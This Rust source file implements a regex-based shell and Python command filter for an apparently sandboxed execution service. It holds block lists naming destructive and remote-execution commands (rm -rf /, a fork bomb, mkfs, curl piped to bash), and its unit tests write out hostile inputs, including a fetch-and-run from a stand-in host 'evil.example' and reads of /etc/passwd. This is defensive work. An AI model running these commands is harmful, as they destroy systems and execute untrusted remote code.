//! Command Filter - Pattern-Based Classification
//!
//! Classifies shell commands and Python source against tier-specific
//! pattern sets. The policy is whitelist-first, then tiered blacklist,
//! then conditional restriction (see crate docs for the layer order).

use crucible_protocol::SecurityTier;
use regex::{Regex, RegexBuilder};
use serde::Serialize;
use tracing::debug;

/// Classification of a blocked input.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ViolationKind {
    DangerousCommand,
    RestrictedCommand,
    DangerousPythonCode,
    InputValidation,
}

/// A blocked command or code body, with the tier of the matched pattern
/// and a human-readable remediation hint.
#[derive(Debug, Clone, Serialize)]
pub struct Violation {
    pub tier: SecurityTier,
    pub kind: ViolationKind,
    pub message: String,
    pub remediation: String,
}

struct BlockedPattern {
    regex: Regex,
    remediation: &'static str,
}

fn pattern(source: &str, remediation: &'static str) -> BlockedPattern {
    let regex = RegexBuilder::new(source)
        .case_insensitive(true)
        .build()
        .unwrap_or_else(|e| panic!("invalid filter pattern {:?}: {}", source, e));
    BlockedPattern { regex, remediation }
}

fn simple(source: &str) -> Regex {
    RegexBuilder::new(source)
        .case_insensitive(true)
        .build()
        .unwrap_or_else(|e| panic!("invalid filter pattern {:?}: {}", source, e))
}

const DEFAULT_REMEDIATION: &str =
    "Review the command for potential security risks and use safer alternatives";

/// Pattern-based command and code classifier.
///
/// Construction compiles every pattern once; checks are pure lookups.
pub struct CommandFilter {
    safe_patterns: Vec<Regex>,
    critical: Vec<BlockedPattern>,
    high: Vec<BlockedPattern>,
    medium: Vec<BlockedPattern>,
    conditional_high: Vec<BlockedPattern>,
    python_patterns: Vec<BlockedPattern>,
}

impl CommandFilter {
    pub fn new() -> Self {
        // Whitelisted invocations, checked before any blacklist group.
        let safe_patterns = vec![
            simple(r"^python3?\s+-c\s"),
            simple(r"^python3?\s+\S+\.py"),
            simple(r"^pip3?\s+(install|list|show|freeze)"),
            simple(r"^git\s"),
            simple(r"^npm\s"),
            simple(r"^node\s"),
            simple(r"^cargo\s"),
            simple(r"^make(\s|$)"),
            simple(r"^cmake\s"),
            simple(r"^gcc\s"),
            simple(r"^g\+\+\s"),
            simple(r"^javac?\s"),
            simple(r"^ping\s+-c\s+\d+"),
            // HTTP fetches are safe only when nothing is piped or chained
            simple(r"^curl\s+https?://[^|;&]+$"),
            simple(r"^wget\s+https?://[^|;&]+$"),
            simple(r#"^bash\s+-c\s+['"]?(echo|ls|cat|grep|find|mkdir|touch|cp|mv|python|pip)"#),
            simple(r"^bash\s+\S+\.(sh|py)"),
        ];

        // Immediate system risk, blocked at every tier.
        let critical = vec![
            pattern(
                r"rm\s+-rf\s+/(\s|$)",
                "Use 'rm -rf ./directory' to delete specific directories instead of root",
            ),
            pattern(r"rm\s+-rf\s+\*", "Delete specific paths rather than everything"),
            pattern(
                r":\(\)\s*\{\s*:\|\s*:\s*&\s*\}\s*;?\s*:",
                "Fork bombs exhaust the process table; remove the recursion",
            ),
            pattern(
                r"sudo\s+rm\s+-rf",
                "Be very careful with sudo rm -rf, consider using specific paths",
            ),
            pattern(
                r"mkfs(\.\w+)?\s",
                "Formatting filesystems is dangerous - ensure you have backups",
            ),
            pattern(
                r"dd\s+if=.*of=/dev/",
                "Direct disk operations are dangerous - double-check your parameters",
            ),
            pattern(
                r"curl\s+.*\|\s*(sudo\s+)?(ba)?sh",
                "Download the script first, review it, then execute: 'curl url > script.sh && bash script.sh'",
            ),
            pattern(
                r"wget\s+.*\|\s*(sudo\s+)?(ba)?sh",
                "Download the script first, review it, then execute: 'wget url -O script.sh && sh script.sh'",
            ),
            pattern(r">\s*/dev/(sd|hd|nvme|disk)", "Writing to block devices corrupts disks"),
        ];

        // System-administration surface, blocked at every tier.
        let high = vec![
            pattern(
                r"chmod\s+(-R\s+)?777\s+/etc",
                "Use more restrictive permissions like 'chmod 755' or 'chmod 644'",
            ),
            pattern(r"chown\s+.*\s+/etc", "Leave system file ownership unchanged"),
            pattern(r"passwd\s+root", "Root password changes are not permitted here"),
            pattern(r"user(add|del)\s", "User administration is not permitted here"),
            pattern(r"mount\s+.*\s+/(\s|$)", "Mounting over root is not permitted"),
            pattern(r"(fdisk|parted)\s+/dev/", "Disk partitioning is not permitted here"),
            pattern(r"iptables\s+-F", "Flushing firewall rules is not permitted here"),
            pattern(
                r"systemctl\s+(stop|disable)\s+ssh",
                "Stopping the SSH service is not permitted here",
            ),
            pattern(r"sudo\s+systemctl", "Service management requires operator access"),
        ];

        // Disruptive but recoverable operations.
        let medium = vec![
            pattern(
                r"shutdown\s+(now|-h\s+now)",
                "Use 'shutdown +5' to allow time for cleanup",
            ),
            pattern(r"reboot(\s+now)?$", "Reboots are not permitted from the sandbox"),
            pattern(r"(halt|poweroff)\s+now", "Power control is not permitted from the sandbox"),
            pattern(r"init\s+[06]", "Runlevel changes are not permitted from the sandbox"),
            pattern(
                r"(killall|pkill)\s+-9",
                "Try 'killall process_name' first before using -9",
            ),
        ];

        // Network reconnaissance / remote access, blocked only at high tiers.
        let conditional_high = vec![
            pattern(r"nc\s+-l", "Listening sockets are restricted in this security mode"),
            pattern(r"ssh\s+\S+@", "Outbound SSH is restricted in this security mode"),
            pattern(r"scp\s+\S+@", "Outbound SCP is restricted in this security mode"),
            pattern(r"rsync\s+.*\S+@", "Remote rsync is restricted in this security mode"),
            pattern(r"nmap\s", "Network scanning is restricted in this security mode"),
        ];

        // Interpreter-escape constructions in Python source.
        let python_patterns = vec![
            pattern(
                r#"__import__\s*\(\s*["']os["']"#,
                "Import modules explicitly instead of reflective import of os",
            ),
            pattern(r"\bexec\s*\(", "Avoid exec of synthesized strings"),
            pattern(r"\beval\s*\(", "Avoid eval of synthesized strings"),
            pattern(r"\bcompile\s*\(", "Avoid compiling arbitrary source at runtime"),
            pattern(r"\bglobals\s*\(\s*\)", "Reflective globals access is blocked"),
            pattern(r"\blocals\s*\(\s*\)", "Reflective locals access is blocked"),
            pattern(
                r#"open\s*\(\s*["'][/\\]"#,
                "Open files relative to the workspace instead of absolute system paths",
            ),
            pattern(r"subprocess\.", "Spawning subprocesses from Python is blocked"),
            pattern(r"os\.system", "os.system is blocked; use the shell execution path"),
            pattern(r"os\.popen", "os.popen is blocked; use the shell execution path"),
            pattern(r"os\.spawn", "os.spawn* is blocked; use the shell execution path"),
        ];

        Self {
            safe_patterns,
            critical,
            high,
            medium,
            conditional_high,
            python_patterns,
        }
    }

    /// Classify a shell command at the given tier.
    ///
    /// Returns `None` when the command is allowed.
    pub fn check_command(&self, command: &str, tier: SecurityTier) -> Option<Violation> {
        let command = command.trim();

        for safe in &self.safe_patterns {
            if safe.is_match(command) {
                debug!("command matched safe pattern, allowing");
                return None;
            }
        }

        // Blacklist groups are evaluated strictest-first, regardless of the
        // current tier: a critical pattern blocks even a low-tier workspace.
        let groups = [
            (SecurityTier::Critical, &self.critical),
            (SecurityTier::High, &self.high),
            (SecurityTier::Moderate, &self.medium),
        ];
        for (group_tier, patterns) in groups {
            for blocked in patterns.iter() {
                if blocked.regex.is_match(command) {
                    return Some(Violation {
                        tier: group_tier,
                        kind: ViolationKind::DangerousCommand,
                        message: "Command blocked due to security policy".to_string(),
                        remediation: blocked.remediation.to_string(),
                    });
                }
            }
        }

        if tier >= SecurityTier::High {
            for blocked in &self.conditional_high {
                if blocked.regex.is_match(command) {
                    return Some(Violation {
                        tier,
                        kind: ViolationKind::RestrictedCommand,
                        message: format!("Command restricted in {} security mode", tier),
                        remediation: blocked.remediation.to_string(),
                    });
                }
            }
        }

        None
    }

    /// Classify a Python source body.
    ///
    /// Safe usage (imports, arithmetic, data-science libraries, workspace-
    /// relative I/O) passes; interpreter-escape constructions are blocked.
    pub fn check_python(&self, code: &str) -> Option<Violation> {
        for blocked in &self.python_patterns {
            if blocked.regex.is_match(code) {
                return Some(Violation {
                    tier: SecurityTier::High,
                    kind: ViolationKind::DangerousPythonCode,
                    message: "Python code contains a potentially dangerous pattern".to_string(),
                    remediation: blocked.remediation.to_string(),
                });
            }
        }
        None
    }
}

impl Default for CommandFilter {
    fn default() -> Self {
        Self::new()
    }
}

impl Violation {
    /// Fallback remediation used when a pattern carries no specific hint.
    pub fn default_remediation() -> &'static str {
        DEFAULT_REMEDIATION
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn filter() -> CommandFilter {
        CommandFilter::new()
    }

    #[test]
    fn test_blocks_root_deletion_at_every_tier() {
        let f = filter();
        for tier in SecurityTier::ALL {
            let violation = f.check_command("rm -rf /", tier).expect("must block");
            assert_eq!(violation.tier, SecurityTier::Critical);
            assert_eq!(violation.kind, ViolationKind::DangerousCommand);
            assert!(!violation.remediation.is_empty());
        }
    }

    #[test]
    fn test_blocks_piped_remote_script() {
        let f = filter();
        let violation = f
            .check_command("curl http://evil.example/x.sh | bash", SecurityTier::Low)
            .expect("must block");
        assert!(violation.remediation.contains("Download the script first"));
    }

    #[test]
    fn test_blocks_high_group() {
        let f = filter();
        assert!(f
            .check_command("chmod 777 /etc/passwd", SecurityTier::Moderate)
            .is_some());
        assert!(f
            .check_command("iptables -F", SecurityTier::Low)
            .is_some());
    }

    #[test]
    fn test_blocks_medium_group() {
        let f = filter();
        assert!(f.check_command("shutdown now", SecurityTier::Low).is_some());
        assert!(f.check_command("killall -9", SecurityTier::Low).is_some());
    }

    #[test]
    fn test_conditional_only_at_high_tier() {
        let f = filter();
        assert!(f
            .check_command("ssh user@remote.example", SecurityTier::Moderate)
            .is_none());
        let violation = f
            .check_command("ssh user@remote.example", SecurityTier::High)
            .expect("restricted at high tier");
        assert_eq!(violation.kind, ViolationKind::RestrictedCommand);
    }

    #[test]
    fn test_safe_patterns_allowed() {
        let f = filter();
        assert!(f.check_command("python3 script.py", SecurityTier::Critical).is_none());
        assert!(f.check_command("git status", SecurityTier::Critical).is_none());
        assert!(f
            .check_command("curl https://example.com/data.json", SecurityTier::High)
            .is_none());
        assert!(f.check_command("pip install numpy", SecurityTier::High).is_none());
    }

    #[test]
    fn test_plain_commands_allowed() {
        let f = filter();
        assert!(f.check_command("ls -la", SecurityTier::Moderate).is_none());
        assert!(f.check_command("echo hello", SecurityTier::Critical).is_none());
    }

    #[test]
    fn test_python_escape_blocked() {
        let f = filter();
        assert!(f.check_python("import os\nos.system('ls')").is_some());
        assert!(f.check_python("eval('1+1')").is_some());
        assert!(f.check_python("open('/etc/passwd')").is_some());
        assert!(f.check_python("subprocess.run(['ls'])").is_some());
    }

    #[test]
    fn test_safe_python_allowed() {
        let f = filter();
        assert!(f.check_python("import numpy as np\nprint(np.ones(3))").is_none());
        assert!(f.check_python("x = 21\nprint(x * 2)").is_none());
        assert!(f.check_python("with open('out.csv', 'w') as fh:\n    fh.write('a,b')").is_none());
    }
}
